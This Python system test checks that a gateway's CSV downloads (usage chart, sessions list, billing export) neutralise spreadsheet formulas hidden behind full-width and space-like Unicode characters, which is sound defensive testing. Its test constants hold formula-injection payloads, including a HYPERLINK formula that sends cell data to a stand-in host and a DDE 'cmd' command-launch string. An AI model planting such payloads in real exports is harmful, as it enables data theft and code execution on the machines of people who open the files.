"""The CSVs a workspace owner downloads run no formula hidden behind Unicode.

A channel's end user names itself (``X-Channel-User-Id``: any printable text, full-width
``＝`` included) and a workspace member names an app (visible text, which may start with
an ideographic space or a full-width ``＋``). Both reach the owner's downloads over real
sockets: the console chart's CSV by app, the ``/sessions`` CSV, and the billing export
(``creditgate export --sessions --output``). The rule is :mod:`meter.usage.csv_text`'s;
the check is the unit test's (:func:`tests.unit.test_csv_formulas.formulas`).
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
from pathlib import Path

import aiohttp

from gateway import cli_commands
from meter.store import SessionRow
from tests.support.adminkit import admin_server
from tests.support.bot import running_bot
from tests.support.settings import make_settings
from tests.system.test_console_session import sign_in
from tests.unit.test_csv_formulas import formulas

APP_NAMES = ['\u00a0=HYPERLINK("http://evil.example/?"&A1)', "\u3000\uff0bcmd|' /C calc'!A0"]
USERS = ['\uff1dHYPERLINK("http://evil.example/?"&A1)', "u1;\uff20SUM(1+1)", "\uff0d2+3"]


async def test_unicode_formulas_reach_no_download(redis_url: str, tmp_path: Path) -> None:
    settings = make_settings(redis_url, tmp_path, operator=True)
    async with running_bot() as bot, admin_server(settings, traffic=True) as admin:
        tok, ws = await admin.owner_workspace()
        apps = [await admin.new_app(tok, ws, bot.url, name=name) for name in APP_NAMES]
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            for app in apps:
                for user in USERS:
                    url = f"{admin.traffic_url}/hooks/web/{app}/msg"
                    headers = {"X-Channel-User-Id": user}
                    async with http.post(url, json={}, headers=headers) as r:
                        assert r.status == 200
            await sign_in(http, admin.url, tok)
            async with http.get(f"{admin.url}/ui/api/usage-chart?ws={ws}&by=app&format=csv") as r:
                chart = await r.text()
            async with http.get(
                f"{admin.url}/v1/workspaces/{ws}/sessions", headers={"Accept": "text/csv"}
            ) as r:
                sessions = await r.text()
        names = next(csv.reader(io.StringIO(chart)))[1:]
        assert len(names) == len(APP_NAMES)
        assert all(name.startswith("'") for name in names)  # shown as text
        got = [row["channel_user"] for row in csv.DictReader(io.StringIO(sessions))]
        assert sorted(got) == sorted(2 * ["'" + USERS[0], "u1;'" + USERS[1][3:], "'" + USERS[2]])
        # The billing export reads what the flusher wrote: the same users, stored.
        await admin.store.write_flush_batch(
            f"{ws}:sr:1:1", ws, "sr", 1_000_000,
            session_rows=[
                SessionRow(ws, f"s{i}", apps[0], "web", user, "automation",
                           1_000_000 + i, 1_000_100 + i, 1, 200_000, 1)
                for i, user in enumerate(USERS)
            ],
        )  # fmt: skip
    assert formulas(chart) == []
    assert formulas(sessions) == []
    out = tmp_path / "sessions.csv"
    args = argparse.Namespace(
        from_="1970-01-01", to="1970-01-02", workspace=ws, granularity="day",
        format="csv", sessions=True, output=str(out),
    )  # fmt: skip
    assert await asyncio.to_thread(cli_commands.export, settings, args) == 0
    exported = out.read_text()
    assert len(list(csv.DictReader(io.StringIO(exported)))) == len(USERS)
    assert formulas(exported) == []
